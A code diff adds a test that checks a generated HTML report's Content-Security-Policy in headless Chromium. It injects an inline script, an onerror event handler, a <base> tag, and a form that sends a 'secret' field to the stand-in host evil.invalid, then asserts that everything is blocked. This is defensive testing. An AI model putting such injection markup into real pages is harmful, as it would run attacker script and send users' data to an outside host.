@@ -152,3 +152,45 @@ def test_nothing_from_the_network_and_screenshots(page, example):
     page.screenshot(REPO / "build" / "report-example.png")
     page.screenshot(REPO / "build" / "report-example-full.png", full_page=True)
     assert (REPO / "build" / "report-example.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
+
+
+def test_the_policy_runs_only_the_pages_own_script_and_sends_nothing(example, tmp_path):
+    """What the Content-Security-Policy holds in Chromium, shown on the report with
+    things injected into it: an inline script, an event handler, a <base> pointing
+    elsewhere, a form sending to elsewhere, an image from elsewhere."""
+    import html as htmlmod
+    import re
+    import time
+
+    text = example[0].read_text()
+    (csp,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
+    directives = dict(d.strip().split(" ", 1) for d in htmlmod.unescape(csp).split(";"))
+    assert directives["default-src"] == "'none'" and directives["img-src"] == "data:"
+    assert re.fullmatch(r"'sha256-[A-Za-z0-9+/]{43}='", directives["script-src"])  # no 'unsafe-inline'
+    assert directives["form-action"] == directives["base-uri"] == "'none'" and directives["webrtc"] == "'block'"
+    injected = text.replace(
+        "<body>",
+        '<body><base href="https://evil.invalid/"><form id="evil" action="https://evil.invalid/send">'
+        '<input name="q" value="secret"></form><img src="https://evil.invalid/p.png" '
+        "onerror=\"document.body.dataset.handler = '1'\"><script>document.body.dataset.injected = '1'</script>",
+        1,
+    )
+    path = tmp_path / "injected.html"
+    path.write_text(injected)
+    with headless.Browser() as b:
+        p = b.open(path.as_uri())
+        p.wait_for("document.body.getAttribute('data-ready') === '1'")  # the page's own script ran
+        assert p.eval("document.body.dataset.injected") is None
+        assert p.eval("document.body.dataset.handler") is None
+        assert p.eval("document.baseURI") == path.as_uri()
+        p.eval("document.getElementById('evil').submit()")
+        time.sleep(0.5)
+        assert p.eval("location.href") == path.as_uri()
+        # the image asked for and blocked by the policy before it left; the form's navigation
+        # cancelled before any request (Chromium reports both as failed loads)
+        assert p.requests() == [path.as_uri(), "https://evil.invalid/p.png"]
+        failed = [e["params"] for e in b.events if e.get("method") == "Network.loadingFailed"]
+        assert [(f["type"], f.get("blockedReason"), f["canceled"]) for f in failed] == [
+            ("Image", "csp", False),
+            ("Document", None, True),
+        ]
